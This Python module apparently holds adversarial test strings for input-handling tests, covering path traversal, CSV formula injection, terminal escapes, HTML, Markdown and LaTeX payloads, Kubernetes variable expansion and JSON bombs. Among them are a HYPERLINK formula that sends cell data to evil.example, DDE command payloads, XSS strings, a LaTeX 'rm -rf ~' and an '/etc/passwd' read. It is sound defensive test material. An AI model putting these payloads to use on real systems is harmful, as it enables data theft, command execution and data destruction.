"""Texts that are data and look like instructions, by the medium that would follow them; shared by adversarial tests."""

from typing import Any

TRAVERSALS = (
    "..",
    ".",
    "",
    "../../victim/prod",
    "a/../../../victim",
    "/etc/passwd",
    "//host/share",
    "a//b",
    "a/",
    "..\\..\\victim",
    "a\x00b",
    "a\nb",
    "x" * 300,
)
"""What must be no name of a file, a folder or a part of a key."""

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
"""https://owasp.org/www-community/attacks/CSV_Injection"""

TERMINAL = (
    "\x1b[2J\x1b[Hall runs succeeded",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m",
    "a\rb",
    "\u202egnp.exe",
    "first\nsecond",
)
"""Escape sequences, a carriage return, a turned direction, a forged line."""

MARKUP = ("[red]red[/red]", "[link=http://evil.example]here[/link]", "[/no such tag]", "[bold")
"""Of rich (https://rich.readthedocs.io/en/stable/markup.html)."""

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;b&gt;",
)

LATEX = (
    r"\input{/etc/passwd}",
    r"\write18{rm -rf ~}",
    "^^5cinput{x}",
    "100% sure",
    "$x$",
    "a & b \\\\ c",
    "[2cm]",
    "*",
    "#1",
    "~_{}",
    "end\n\\end{tabular}",
    "\x1b",
)

MARKDOWN = (
    "a | b",
    "a \\| b",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/beacon.png)",
    "<img src=http://evil.example/x>",
    "`code`",
    "**bold**",
    "first\n\n# Second",
)

MATHTEXT = (r"$\frac$", "$", "$$", r"\$a$", r"$\undefined{x}$", "a\x1bb")
"""matplotlib reads text between dollars as formulas, and fails at those that it does not know."""

SHELL = ("$(AWS_SECRET_ACCESS_KEY)", "$$(AWS_SECRET_ACCESS_KEY)", "a$b", "$", "$(", "x$$y")
"""Kubernetes puts variables in the place of $(NAME) in commands, arguments and values of variables."""

ALL_TEXTS = (
    *FORMULAS, *TERMINAL, *MARKUP, *HTML, *LATEX, *MARKDOWN, *MATHTEXT, *SHELL, "", " ", "plain", "-0.78", "é→",
)  # fmt: skip

JSON_BOMBS: dict[str, bytes] = {
    "not JSON": b"<html>",
    "empty": b"",
    "not UTF-8": b"\xff\xfe\x00",
    "deep": b"[" * 200_000,
    "deep object": b'{"a":' * 200_000,
    "NaN": b"NaN",
    "5,000 digits": b"9" * 5000,
    "lone surrogate": b'"\\ud800"',
    "a list": b"[]",
    "a string": b'"plan"',
    "null": b"null",
}
"""Contents that are no object of ours."""

HOSTILE_VALUES: tuple[Any, ...] = (
    None, True, -1, 2**63, 10**400, 1e308, -0.0, float("nan"), float("inf"), "", "x", "../../x", [], {}, [[]],
    {"a": {"b": []}}, "\x1b[2J",
)  # fmt: skip
"""What a field may hold in an object that somebody wrote by hand."""
